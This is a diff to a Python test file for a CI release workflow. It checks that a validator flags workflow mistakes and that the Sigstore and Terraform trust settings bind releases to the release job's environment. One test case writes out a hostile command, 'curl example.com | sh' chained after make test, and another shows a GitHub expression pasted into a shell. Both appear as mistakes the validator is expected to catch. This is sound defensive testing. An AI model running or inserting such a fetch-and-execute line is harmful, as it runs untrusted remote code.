@@ -68,6 +68,11 @@ def test_one_commit_for_each_version() -> None:
         ("make test", "make test && curl example.com | sh", "expected `make TARGET VARIABLE=...`"),
         ("make test", "make everything", "the Makefile has no target everything"),
         ('"$TAG"', "${{github.ref_name}}", "an expression is pasted into a shell"),
+        (
+            "    permissions:\n      contents: read\n",
+            "    environment: release\n    permissions:\n      id-token: write\n",
+            "make test runs packages of others beside the job's identity",
+        ),
     ],
 )
 def test_mistakes_are_found(before: str, after: str, problem: str) -> None:
@@ -117,4 +122,7 @@ def test_release_is_who_the_cluster_and_aws_trust() -> None:
     assert release[True] == {"push": {"tags": ["v*"]}}  # YAML takes `on` for true
     policy = (ROOT / "k8s/components/sigstore/cluster-image-policy.yaml").read_text()
     assert "[.]github/workflows/release[.]yml@refs/tags/v.+$" in policy
-    assert "repo:${var.repository}:ref:refs/tags/v*" in (ROOT / "terraform/release.tf").read_text()
+    trust = (ROOT / "terraform/release.tf").read_text()
+    assert "/.github/workflows/release.yml@refs/tags/v*" in trust
+    # The subject of a job's token is its environment where it has one, and the ref only where it has none.
+    assert f"repo:${{var.repository}}:environment:{release['jobs']['publish']['environment']}" in trust
